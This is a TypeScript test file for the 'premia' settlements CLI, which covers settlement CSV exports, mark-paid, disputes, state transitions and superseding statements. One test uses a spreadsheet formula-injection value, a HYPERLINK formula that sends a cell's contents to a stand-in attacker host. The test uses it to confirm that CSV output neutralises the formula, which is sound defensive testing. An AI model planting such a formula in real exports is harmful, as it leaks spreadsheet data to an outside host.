        collections_fee: s.collections_fee,
        total_fees: s.total_fees,
        vat: s.vat,
        net_amount: s.net_amount,
        rows: rows.length,
      });
      expect(csv.trimEnd().split('\n').slice(1).map((l) => l.split(',')[1])).toEqual(rows.map((r) => r.policy_number).sort());
    });
  });

  it('--lines never shows a negative net, even for collections of a cent or two (audit-4 #3)', async () => {
    const backend = await openLocalBackend({ path: ':memory:', seed: 1, now: TEST_NOW });
    try {
      const amounts = [1, 2, 1, 2, 1, 2, 2, 2, 2];
      await seedCollections(backend.store, '2026-11', amounts.map((c, i) => ({ policy_number: `POL-${i + 1}`, due: c, collected: c })));
      await setClock(backend.store, '2026-12-02');
      const s = await backend.createSettlement('2026-11');
      const csv = await text(await backend.exportSettlement(s.id, { lines: true }));
      // sumLines checks every cell >= 0 and each line's and column's sums
      expect(sumLines(csv)).toEqual({ collected: 15, distribution_fee: 4, collections_fee: 1, total_fees: 5, vat: 1, net_amount: 9, rows: 9 });
    } finally {
      await backend.close();
    }
  });

  it('--lines sums equal the statement figures on random periods', async () => {
    await fc.assert(
      fc.asyncProperty(fc.integer({ min: 1, max: 1_000_000 }), fc.integer({ min: 1, max: 250 }), async (seed, n) => {
        const backend = await openLocalBackend({ path: ':memory:', seed: 1, now: TEST_NOW });
        try {
          await seedCollections(backend.store, '2026-11', randomCollections(seed, n));
          await setClock(backend.store, '2026-12-02');
          const s = await backend.createSettlement('2026-11');
          const figures = settlementFigures(s.total_collections);
          expect(s).toMatchObject(figures);
          const csv = await text(await backend.exportSettlement(s.settlement_number, { lines: true }));
          expect(sumLines(csv)).toEqual({
            collected: s.total_collections,
            distribution_fee: s.distribution_fee,
            collections_fee: s.collections_fee,
            total_fees: s.total_fees,
            vat: s.vat,
            net_amount: s.net_amount,
            rows: n,
          });
          const policies = csv.trimEnd().split('\n').slice(1).map((l) => l.split(',')[1]!);
          expect(policies).toEqual([...policies].sort());
        } finally {
          await backend.close();
        }
      }),
      { numRuns: 30, seed: 2026 },
    );
  });
});

/** Column sums (cents) of a --lines CSV whose cells hold no commas. */
function sumLines(csv: string) {
  const lines = csv.trimEnd().split('\n');
  expect(lines[0]! + '\n').toBe(LINES_HEADER);
  const sums = { collected: 0, distribution_fee: 0, collections_fee: 0, total_fees: 0, vat: 0, net_amount: 0, rows: 0 };
  for (const line of lines.slice(1)) {
    // money is in the last six cells; quoted text cells come before them
    const cells = line.split(',').slice(-6).map((c) => Math.round(Number(c) * 100));
    const [collected, d, c, f, v, n] = cells as [number, number, number, number, number, number];
    expect(f).toBe(d + c);
    expect(f + v + n).toBe(collected);
    for (const cell of cells) expect(cell).toBeGreaterThanOrEqual(0);
    sums.collected += collected;
    sums.distribution_fee += d;
    sums.collections_fee += c;
    sums.total_fees += f;
    sums.vat += v;
    sums.net_amount += n;
    sums.rows++;
  }
  return sums;
}

describe('premia settlements mark-paid', () => {
  it('records the clock date and the given reference (pending → paid)', async () => {
    const { db, cli } = await fixtureStore('2026-12-02');
    const id = (await cli(['--json', 'settlements', 'create', '--period', FIXTURE_PERIOD])).json().id;
    await withBackend(db, (b) => setClock(b.store, '2026-12-03'));
    const r = await cli(['--json', 'settlements', 'mark-paid', id, '--reference', 'EFT/2026-12-03/0001']);
    expect(r.code).toBe(0);
    expect(r.json()).toMatchObject({ status: 'paid', paid_on: '2026-12-03', paid_reference: 'EFT/2026-12-03/0001', disputed_on: null });
    const human = await cli(['settlements', 'get', 'SETTLE-2026-11-001']);
    expect(human.stdout).toContain('paid_on            2026-12-03\n');
  });

  it("without --reference records the statement's own payment reference", async () => {
    const { cli } = await fixtureStore('2026-12-02');
    await cli(['settlements', 'create', '--period', FIXTURE_PERIOD]);
    const r = await cli(['settlements', 'mark-paid', 'SETTLE-2026-11-001']);
    expect(r.code).toBe(0);
    expect(r.stderr).toBe(`SETTLE-2026-11-001 is paid (on 2026-12-02, reference ${REF_001}).\n`);
  });

  // The CLI checks the reference as the service checks the request, so both modes word it alike,
  // naming the option.
  it.each([
    ['eft-1', 'INVALID_FORMAT', '--reference "eft-1" is not valid; a payment reference is 1–35 of A-Z, 0-9, - and /.'],
    ['A'.repeat(36), 'TOO_LONG', '--reference is 36 characters long; at most 35 are allowed.'],
    ['EFT 1', 'INVALID_FORMAT', '--reference "EFT 1" is not valid; a payment reference is 1–35 of A-Z, 0-9, - and /.'],
    ['', 'REQUIRED', '--reference must not be empty.'],
  ])('refuses the reference %j (exit 2)', async (reference, code, message) => {
    const { cli } = await fixtureStore('2026-12-02');
    await cli(['settlements', 'create', '--period', FIXTURE_PERIOD]);
    const r = await cli(['--json', 'settlements', 'mark-paid', 'SETTLE-2026-11-001', '--reference', reference]);
    expect(r.code).toBe(2);
    expect(errorBody(r.stderr)).toMatchObject({ code: 'VALIDATION_ERROR', message, details: [{ field: 'reference', code }] });
    expect((await cli(['--json', 'settlements', 'get', 'SETTLE-2026-11-001'])).json().status).toBe('pending');
  });

  it('accepts a 35-character reference', async () => {
    const { cli } = await fixtureStore('2026-12-02');
    await cli(['settlements', 'create', '--period', FIXTURE_PERIOD]);
    const r = await cli(['--json', 'settlements', 'mark-paid', 'SETTLE-2026-11-001', '--reference', 'A/'.repeat(17) + '9']);
    expect(r.code).toBe(0);
    expect(r.json().paid_reference).toHaveLength(35);
  });
});

describe('premia settlements dispute', () => {
  it('is allowed up to payment_date + 30 days and refused the day after (DISPUTE_WINDOW_CLOSED)', async () => {
    const { db, cli } = await fixtureStore('2026-12-02');
    await withBackend(db, async (b) => {
      await b.createSettlement(FIXTURE_PERIOD);
      await b.createSettlement('2026-10');
    });
    // 2026-11: payment 2026-12-03, last day to dispute 2027-01-02
    await withBackend(db, (b) => setClock(b.store, '2027-01-02'));
    const onTheDay = await cli(['--json', 'settlements', 'dispute', 'SETTLE-2026-11-001', '--reason', '  VAT wrong  ']);
    expect(onTheDay.code).toBe(0);
    expect(onTheDay.json()).toMatchObject({ status: 'disputed', disputed_on: '2027-01-02', dispute_reason: 'VAT wrong' });
    // 2026-10: payment 2026-11-03 but made on 2026-12-02, so received then: last day 2027-01-01
    await withBackend(db, (b) => setClock(b.store, '2027-01-03'));
    const late = await cli(['--json', 'settlements', 'dispute', 'SETTLE-2026-10-001', '--reason', 'late']);
    expect(late.code).toBe(6);
    const error = errorBody(late.stderr);
    expect(error.code).toBe('DISPUTE_WINDOW_CLOSED');
    expect(error.message).toBe(
      'The dispute window of SETTLE-2026-10-001 closed on 2027-01-01 (30 days after the day it was made, 2026-12-02, after its payment date 2026-11-03); the clock is at 2027-01-03. Raise the matter with the operator.',
    );
    expect(error.details).toEqual([{ settlement_number: 'SETTLE-2026-10-001', payment_date: '2026-11-03', last_allowed_date: '2027-01-01', today: '2027-01-03' }]);
  });

  it('payment_date + 31 days is refused, + 30 allowed (same statement)', async () => {
    for (const [clock, code] of [['2027-01-02', 0], ['2027-01-03', 6]] as const) {
      const { db, cli } = await fixtureStore('2026-12-02');
      await cli(['settlements', 'create', '--period', FIXTURE_PERIOD]);
      await withBackend(db, (b) => setClock(b.store, clock));
      const r = await cli(['settlements', 'dispute', 'SETTLE-2026-11-001', '--reason', 'x']);
      expect(r.code).toBe(code);
      if (code === 6) expect(r.stderr).toContain('closed on 2027-01-02');
    }
  });

  it('a paid statement can be disputed', async () => {
    const { cli } = await fixtureStore('2026-12-02');
    await cli(['settlements', 'create', '--period', FIXTURE_PERIOD]);
    await cli(['settlements', 'mark-paid', 'SETTLE-2026-11-001']);
    const r = await cli(['--json', 'settlements', 'dispute', 'SETTLE-2026-11-001', '--reason', 'Net short by 0.01']);
    expect(r.code).toBe(0);
    expect(r.json()).toMatchObject({ status: 'disputed', paid_on: '2026-12-02', dispute_reason: 'Net short by 0.01' });
  });

  // The first three are checked as the service checks the request body, said in the option's
  // words (the same in both modes); the line break is refused by the settlement rules themselves.
  it.each([
    ['', '--reason must not be empty.'],
    ['   ', '--reason must not be empty.'],
    ['x'.repeat(501), '--reason is 501 characters long; at most 500 are allowed.'],
    ['two\nlines', 'The dispute reason has a control character (such as a line break); write it on one line.'],
  ])('refuses the reason %j (exit 2)', async (reason, message) => {
    const { cli } = await fixtureStore('2026-12-02');
    await cli(['settlements', 'create', '--period', FIXTURE_PERIOD]);
    const r = await cli(['settlements', 'dispute', 'SETTLE-2026-11-001', '--reason', reason]);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain(message);
  });

  it('accepts a 500-character reason', async () => {
    const { cli } = await fixtureStore('2026-12-02');
    await cli(['settlements', 'create', '--period', FIXTURE_PERIOD]);
    expect((await cli(['settlements', 'dispute', 'SETTLE-2026-11-001', '--reason', 'y'.repeat(500)])).code).toBe(0);
  });

  it('a reason written as a formula is kept as written and listed in CSV after an apostrophe', async () => {
    const { cli } = await fixtureStore('2026-12-02');
    await cli(['settlements', 'create', '--period', FIXTURE_PERIOD]);
    const reason = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
    expect((await cli(['settlements', 'dispute', 'SETTLE-2026-11-001', '--reason', reason])).code).toBe(0);
    const csv = await cli(['settlements', 'list', '--format', 'csv', '--fields', 'settlement_number,dispute_reason']);
    expect(csv.code).toBe(0);
    expect(csv.stdout).toBe('settlement_number,dispute_reason\nSETTLE-2026-11-001,"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"\n');
    const json = await cli(['settlements', 'list', '--format', 'json', '--fields', 'dispute_reason']);
    expect(json.json()).toEqual([{ dispute_reason: reason }]);
  });

  it('--reason is required', async () => {
    const { cli } = await fixtureStore('2026-12-02');
    expect((await cli(['settlements', 'dispute', 'SETTLE-2026-11-001'])).code).toBe(2);
  });
});

describe('INVALID_TRANSITION', () => {
  it.each([
    ['paid', 'mark-paid', 'Settlement SETTLE-2026-11-001 is paid and cannot become paid; from paid it can become disputed.'],
    ['disputed', 'mark-paid', 'Settlement SETTLE-2026-11-001 is disputed and cannot become paid; from disputed it can become nothing'],
    ['disputed', 'dispute', 'Settlement SETTLE-2026-11-001 is disputed and cannot become disputed;'],
  ])('from %s, %s is refused (exit 6)', async (from, verb, message) => {
    const { cli } = await fixtureStore('2026-12-02');
    await cli(['settlements', 'create', '--period', FIXTURE_PERIOD]);
    if (from === 'paid') await cli(['settlements', 'mark-paid', 'SETTLE-2026-11-001']);
    if (from === 'disputed') await cli(['settlements', 'dispute', 'SETTLE-2026-11-001', '--reason', 'first']);
    const args = verb === 'dispute' ? ['settlements', 'dispute', 'SETTLE-2026-11-001', '--reason', 'again'] : ['settlements', 'mark-paid', 'SETTLE-2026-11-001'];
    const r = await cli(['--json', ...args]);
    expect(r.code).toBe(6);
    const error = errorBody(r.stderr);
    expect(error.code).toBe('INVALID_TRANSITION');
    expect(error.message).toContain(message);
    expect((await cli(['--json', 'settlements', 'get', 'SETTLE-2026-11-001'])).json().status).toBe(from);
  });

  it('nothing is deleted: every statement and its events stay', async () => {
    const { db, cli } = await fixtureStore('2026-12-02');
    await cli(['settlements', 'create', '--period', FIXTURE_PERIOD]);
    await cli(['settlements', 'mark-paid', 'SETTLE-2026-11-001']);
    await cli(['settlements', 'dispute', 'SETTLE-2026-11-001', '--reason', 'r']);
    await cli(['settlements', 'create', '--period', FIXTURE_PERIOD]);
    await withBackend(db, async (b) => {
      const events = await b.store.db.selectFrom('settlement_events').select(['settlement_id', 'event', 'status', 'on_date']).orderBy('id').execute();
      expect(events.map((e) => `${e.settlement_id}:${e.event}:${e.status}:${e.on_date}`)).toEqual([
        '1:created:pending:2026-12-02',
        '1:paid:paid:2026-12-02',
        '1:disputed:disputed:2026-12-02',
        '2:created:pending:2026-12-02',
      ]);
      expect(await b.store.db.selectFrom('settlements').select('status').orderBy('id').execute()).toEqual([{ status: 'disputed' }, { status: 'pending' }]);
    });
  });
});

describe('a statement regenerated after a payment nets out what was paid (issue 10, item 9)', () => {
  // The period of `premia simulate`'s first statement: 425,772.01 collected, net 286,225.24.
  const ROWS = [
    { policy_number: 'POL-1', customer_id: 'C1', due: 20_000_000, collected: 20_000_000 },
    { policy_number: 'POL-2', customer_id: 'C2', due: 20_000_000, collected: 20_000_000 },
    { policy_number: 'POL-3', customer_id: 'C3', due: 5_000_000, collected: 2_577_201 },
  ];
  const PERIOD_FIGURES = {
    total_collections: 425772.01,
    distribution_fee: 106443.0,
    collections_fee: 14902.02,
    total_fees: 121345.02,
    vat: 18201.75,
  };

  /** -001 created, paid (286,225.24) and disputed; then POL-3's collected amount moved by `change` cents (a correction). */
  async function paidThenDisputed(change = 0) {
    const { dir, db } = await seededStore(ROWS);
    const cli = (args: string[]) => runCli(['--db', db, ...args], { cwd: dir });
    const first = (await cli(['--json', 'settlements', 'create', '--period', '2026-11'])).json();
    expect(first).toMatchObject({ settlement_number: 'SETTLE-2026-11-001', ...PERIOD_FIGURES, net_amount: 286225.24, previously_paid: 0, supersedes: null });
    expect((await cli(['settlements', 'mark-paid', 'SETTLE-2026-11-001', '--reference', 'EFT-2026-12-0001'])).code).toBe(0);
    expect((await cli(['settlements', 'dispute', 'SETTLE-2026-11-001', '--reason', 'POL-3 was collected short'])).code).toBe(0);
    if (change !== 0) {
      await withBackend(db, (b) =>
        b.store.db.updateTable('collections').set((eb) => ({ amount_collected: eb('amount_collected', '+', asCents(change)) })).where('policy_number', '=', 'POL-3').execute().then(() => undefined),
      );
    }
    return { db, cli, first };
  }

  it('nothing changed: -002 carries the 286,225.24 already paid and nets to 0.00; it names -001, which names it back', async () => {
    const { cli, first } = await paidThenDisputed();
    const created = await cli(['--json', 'settlements', 'create', '--period', '2026-11']);
    expect(created.code).toBe(0);
    const s2 = created.json();
    expect(s2).toMatchObject({
      settlement_number: 'SETTLE-2026-11-002',
      ...PERIOD_FIGURES,
      previously_paid: 286225.24,
      net_amount: 0,
      status: 'pending',
      supersedes: 'SETTLE-2026-11-001',
      superseded_by: null,
    });
    expect(created.stdout).toContain('"vat":18201.75,"net_amount":0.00,');
    expect(created.stdout).toContain('"previously_paid":286225.24,"supersedes":"SETTLE-2026-11-001","superseded_by":null}');
    const old = (await cli(['--json', 'settlements', 'get', first.id])).json();
    expect(old).toMatchObject({ status: 'disputed', paid_on: '2026-12-02', paid_reference: 'EFT-2026-12-0001', net_amount: 286225.24, superseded_by: 'SETTLE-2026-11-002' });
    // The spec's export keeps its ten columns: net_amount is what is still due.
    const csv = await cli(['settlements', 'export', 'SETTLE-2026-11-002']);
    expect(csv.stdout).toBe(`${EXPORT_HEADER}SETTLE-2026-11-002,2026-11,425772.01,106443.00,14902.02,121345.02,18201.75,0.00,2026-12-03,${s2.payment_reference}\n`);
  });

  it('the list shows both with their states, what was paid and what replaced what', async () => {
    const { cli } = await paidThenDisputed();
    await cli(['settlements', 'create', '--period', '2026-11']);
    const list = (await cli(['--json', 'settlements', 'list'])).json();
    expect(list.data.map((s: Record<string, unknown>) => [s.settlement_number, s.status, s.paid_on, s.previously_paid, s.net_amount, s.supersedes, s.superseded_by])).toEqual([
      ['SETTLE-2026-11-002', 'pending', null, 286225.24, 0, 'SETTLE-2026-11-001', null],
      ['SETTLE-2026-11-001', 'disputed', '2026-12-02', 0, 286225.24, null, 'SETTLE-2026-11-002'],
    ]);
    const table = (await cli(['settlements', 'list'])).stdout.trimEnd().split('\n');
    expect(table[0]).toMatch(/^settlement_number\s+status\s+total_collections\s+previously_paid\s+net_amount\s+payment_date\s+payment_reference\s+paid_on\s+superseded_by\s+id$/);
    expect(table[1]).toMatch(/^SETTLE-2026-11-002\s+pending\s+425772\.01\s+286225\.24\s+0\.00\s+2026-12-03\s+PRM2611002-\S+\s+-\s+-\s/);
    expect(table[2]).toMatch(/^SETTLE-2026-11-001\s+disputed\s+425772\.01\s+0\.00\s+286225\.24\s+2026-12-03\s+PRM2611001-\S+\s+2026-12-02\s+SETTLE-2026-11-002\s/);
  });

  it('a superseded statement can never be paid: mark-paid is a conflict (exit 6) naming the one that replaced it', async () => {
    const { cli } = await paidThenDisputed();
    await cli(['settlements', 'create', '--period', '2026-11']);
    const r = await cli(['--json', 'settlements', 'mark-paid', 'SETTLE-2026-11-001']);
    expect([r.code, r.stdout]).toEqual([6, '']);
    expect(errorBody(r.stderr)).toMatchObject({
      code: 'INVALID_TRANSITION',
      message:
        'Settlement SETTLE-2026-11-001 is disputed and cannot become paid: it was superseded by SETTLE-2026-11-002, which nets out what was already paid for 2026-11. Pay or record that one instead.',
    });
  });

  it('nothing changed since the paid statement: -002 nets 0.00 and says there is nothing more to pay, not "to pay by"', async () => {
    const { cli } = await paidThenDisputed();
    const r = await cli(['settlements', 'create', '--period', '2026-11']);
    expect(r.code).toBe(0);
    expect(r.stderr).toBe(
      'Created SETTLE-2026-11-002 (supersedes SETTLE-2026-11-001; 286,225.24 already paid for 2026-11): net 0.00: nothing more to pay for 2026-11 (mark-paid records the period as settled).\n',
    );
  });

  it('more collected meanwhile: -002 is the difference, 672.25, and says so for people', async () => {
    const { cli } = await paidThenDisputed(100_000);
    const r = await cli(['settlements', 'create', '--period', '2026-11']);
    expect(r.code).toBe(0);
    expect(r.stderr).toMatch(/^Created SETTLE-2026-11-002 \(supersedes SETTLE-2026-11-001; 286,225\.24 already paid for 2026-11\): net 672\.25 to pay by 2026-12-03 with reference PRM2611002-\S+\.\n$/);
    const lines = r.stdout.split('\n');
    // Off a terminal money is not grouped (on one, see 'a statement for people' below).
    expect(lines).toContain('total_collections  426772.01');
    expect(lines).toContain('period_net         286897.49');
    expect(lines).toContain('previously_paid    286225.24');
    expect(lines).toContain('net_amount            672.25');
    expect(lines).toContain('supersedes         SETTLE-2026-11-001');
    const s2 = (await cli(['--json', 'settlements', 'get', 'SETTLE-2026-11-002'])).json();
    expect(s2).toMatchObject({ total_collections: 426772.01, distribution_fee: 106693.0, collections_fee: 14937.02, total_fees: 121630.02, vat: 18244.5, previously_paid: 286225.24, net_amount: 672.25 });
    // The lines split the period's figures: their net column sums to the period's net (net_amount + previously_paid).
    const csv = (await cli(['settlements', 'export', 'SETTLE-2026-11-002', '--lines'])).stdout.trimEnd().split('\n').slice(1);
    expect(csv.reduce((sum, l) => sum + Math.round(Number(l.split(',').at(-1)) * 100), 0)).toBe(28_689_749);
  });

  it('less collected meanwhile: a negative net (-672.25, money the client owes back), exported with its sign; a third statement nets both payments', async () => {
    const { cli } = await paidThenDisputed(-100_000);
    const r = await cli(['settlements', 'create', '--period', '2026-11']);
    expect(r.stderr).toMatch(/^Created SETTLE-2026-11-002 \(supersedes SETTLE-2026-11-001; 286,225\.24 already paid for 2026-11\): net -672\.25: the client owes 672\.25 back by 2026-12-03, reference PRM2611002-\S+\.\n$/);
    const s2 = (await cli(['--json', 'settlements', 'get', 'SETTLE-2026-11-002'])).json();
    expect(s2).toMatchObject({ total_collections: 424772.01, previously_paid: 286225.24, net_amount: -672.25 });
    expect((await cli(['--json', 'settlements', 'get', 'SETTLE-2026-11-002'])).stdout).toContain('"net_amount":-672.25,');
    const csv = await cli(['settlements', 'export', 'SETTLE-2026-11-002']);
    expect(csv.stdout.split('\n')[1]).toBe(`SETTLE-2026-11-002,2026-11,424772.01,106193.00,14867.02,121060.02,18159.00,-672.25,2026-12-03,${s2.payment_reference}`);
    // The refund arrives: -002 is paid. Disputed again and regenerated, -003 nets both payments: 286,225.24 − 672.25.
    expect((await cli(['settlements', 'mark-paid', 'SETTLE-2026-11-002'])).code).toBe(0);
    expect((await cli(['settlements', 'dispute', 'SETTLE-2026-11-002', '--reason', 'check again'])).code).toBe(0);
    const s3 = (await cli(['--json', 'settlements', 'create', '--period', '2026-11'])).json();
    expect(s3).toMatchObject({ settlement_number: 'SETTLE-2026-11-003', previously_paid: 285552.99, net_amount: 0, supersedes: 'SETTLE-2026-11-002' });
  });

  // The question before an irreversible create showed -002 as "net 0.00, to be paid by 2026-12-03"
  // (or "net -672.25, to be paid by"), beside a total and fees that do not come to it, and never
  // named what was paid before: the figures it gave could not be checked, and money owed back read
  // as money to pay.
  it.each([
    [0, 'net 0.00: nothing more to pay for 2026-11.', 'net 0.00: nothing more to pay) as paid today'],
    [100_000, 'net 672.25, to be paid by 2026-12-03 (reference PRM2611002-', 'net 672.25, to be paid by 2026-12-03) as paid today'],
    [-100_000, 'net -672.25: the client owes 672.25 back by 2026-12-03 (reference PRM2611002-', 'net -672.25: the client owes 672.25 back by 2026-12-03) as paid (the refund received) today'],
  ])('on a terminal, the questions for -002 name what was paid before and which way the net goes (%d cents changed)', async (change, net, paid) => {
    const { db, cli } = await paidThenDisputed(change);
    const asked: string[] = [];
    const onTerminal = (args: string[]) =>
      runCli(['--db', db, ...args], {
        cwd: dirname(db),
        tty: true,
        env: { NO_COLOR: '1' },
        prompter: {
          password: () => Promise.reject(new Error('unexpected')),
          input: () => Promise.reject(new Error('unexpected')),
          confirm: async (message) => {
            asked.push(message);
            return false;
          },
        },
      });
    const r = await onTerminal(['settlements', 'create', '--period', '2026-11']);
    expect(r.code).toBe(130);
    expect(asked).toHaveLength(1);
    const details = r.stderr.split('\n')[1]!;
    expect(details).toContain(': 3 collections, ');
    expect(details).toContain('; it supersedes SETTLE-2026-11-001, and 286,225.24 was already paid for 2026-11; ');
    expect(details).toContain(net);
    expect((await cli(['settlements', 'create', '--period', '2026-11'])).code).toBe(0);
    const m = await onTerminal(['settlements', 'mark-paid', 'SETTLE-2026-11-002']);
    expect(m.code).toBe(130);
    expect(asked).toEqual(['Create SETTLE-2026-11-002 (net ' + net.split(/[,:]/)[0]!.slice(4) + ')?', 'Mark SETTLE-2026-11-002 as paid?']);
    expect(m.stderr.split('\n')[1]).toContain(`Marking SETTLE-2026-11-002 (2026-11, ${paid} `);
  });

  it('a statement disputed before it was paid passes nothing on: -002 is the full net again', async () => {
    const { dir, db } = await seededStore(ROWS);
    const cli = (args: string[]) => runCli(['--db', db, ...args], { cwd: dir });
    await cli(['settlements', 'create', '--period', '2026-11']);
    await cli(['settlements', 'dispute', 'SETTLE-2026-11-001', '--reason', 'not yet paid, wrong']);
    const s2 = (await cli(['--json', 'settlements', 'create', '--period', '2026-11'])).json();
    expect(s2).toMatchObject({ previously_paid: 0, net_amount: 286225.24, supersedes: 'SETTLE-2026-11-001' });
  });
});

describe('a statement for people: money grouped on a terminal only, as in tables', () => {
  const ROWS = [
    { policy_number: 'POL-1', customer_id: 'C1', due: 20_000_000, collected: 20_000_000 },
    { policy_number: 'POL-2', customer_id: 'C2', due: 20_000_000, collected: 20_000_000 },
    { policy_number: 'POL-3', customer_id: 'C3', due: 5_000_000, collected: 2_577_201 },
  ];

  it('settlements get: 425772.01 in a pipe, 425,772.01 on a terminal', async () => {
    const { dir, db } = await seededStore(ROWS);
    const created = await runCli(['--db', db, '--json', 'settlements', 'create', '--period', '2026-11'], { cwd: dir });
    expect(created.code).toBe(0);
    const s = created.json();
    const tail = ['payment_date       2026-12-03', `payment_reference  ${s.payment_reference}`, `created_at         ${s.created_at}`, ''];
    const head = ['settlement_number  SETTLE-2026-11-001', `id                 ${s.id}`, 'period_month       2026-11', 'status             pending', 'collections        3'];
    const pipe = await runCli(['--db', db, 'settlements', 'get', 'SETTLE-2026-11-001'], { cwd: dir });
    expect(pipe.code).toBe(0);
    expect(pipe.stdout).toBe(
      [
        ...head,
        'total_collections  425772.01',
        'distribution_fee   106443.00',
        'collections_fee     14902.02',
        'total_fees         121345.02',
        'vat                 18201.75',
        'net_amount         286225.24',
        ...tail,
      ].join('\n'),
    );
    const tty = await runCli(['--db', db, 'settlements', 'get', 'SETTLE-2026-11-001'], { cwd: dir, tty: true, env: { NO_COLOR: '1' } });
    expect(tty.code).toBe(0);
    expect(tty.stdout).toBe(
      [
        ...head,
        'total_collections  425,772.01',
        'distribution_fee   106,443.00',
        'collections_fee     14,902.02',
        'total_fees         121,345.02',
        'vat                 18,201.75',
        'net_amount         286,225.24',
        ...tail,
      ].join('\n'),
    );
  });
});
